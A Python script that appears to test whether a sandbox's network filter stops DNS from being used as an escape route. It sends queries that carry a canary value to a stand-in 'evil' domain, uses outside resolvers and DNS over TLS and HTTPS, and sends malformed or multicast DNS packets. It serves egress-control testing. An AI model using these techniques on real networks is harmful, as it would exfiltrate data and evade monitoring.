"""DNS: as a way to what is not allowed, and as a way out by itself."""

from tries import *


def of_type(label, kind):
    def through():
        return ask(question(f"{label}.{EVIL_NAME}", kind))
    through.__name__ = "type_" + label
    return through


for name, number in (("a", 1), ("ns", 2), ("cname", 5), ("soa", 6), ("null", 10), ("ptr", 12), ("mx", 15), ("txt", 16),
                     ("aaaa", 28), ("srv", 33), ("https", 65), ("any", 255), ("axfr", 252)):
    attempt(of_type(name, number))


@attempt
def data_in_labels():
    return ask(question(f"{CANARY}.{EVIL_NAME}"))


@attempt
def over_tcp():
    return ask_tcp(question("tcp." + EVIL_NAME))


@attempt
def another_server():
    return ask(question(f"{CANARY}.other.{EVIL_NAME}"), "8.8.8.8")


@attempt
def another_server_over_tcp():
    return ask_tcp(question(f"{CANARY}.tcp.{EVIL_NAME}"), "8.8.8.8")


@attempt
def server_on_loopback():
    return ask(question(EVIL_NAME), "127.0.0.53")


@attempt
def over_tls():
    return tls("1.1.1.1", 853, "one.one.one.one")


@attempt
def over_https():
    return tls("1.1.1.1", 443, "cloudflare-dns.com")


@attempt
def over_https_by_name():
    return tls("dns.google", 443, "dns.google")


@attempt
def two_questions():
    message = question(WEB_NAME)
    return ask(message[:4] + b"\0\2" + message[6:] + question(EVIL_NAME)[12:])


@attempt
def pointer_loop():
    return ask(struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1")


@attempt
def dot_in_a_label():
    return ask(question("", labels=[b"evil.example", b"net"]))


@attempt
def zero_byte_in_a_label():
    return ask(question("", labels=[b"web", b"example", b"org\0evil", b"net"]))


@attempt
def answer_instead_of_a_question():
    message = bytearray(question(EVIL_NAME))
    message[2] |= 0x80
    return ask(bytes(message))


@attempt
def update():
    message = bytearray(question(EVIL_NAME))
    message[2] = 0x28
    return ask(bytes(message))


@attempt
def reverse_of_an_outside_address():
    return ask(question("81.0.10.44.in-addr.arpa", 12))


@attempt
def multicast_names():
    return datagram("224.0.0.251", 5353, question("printer.local"))


@attempt
def link_local_multicast_names():
    return datagram("224.0.0.252", 5355, question("wpad"))


@attempt
def high_port():
    return ask(question(EVIL_NAME), "44.10.0.53", 5353)


main()
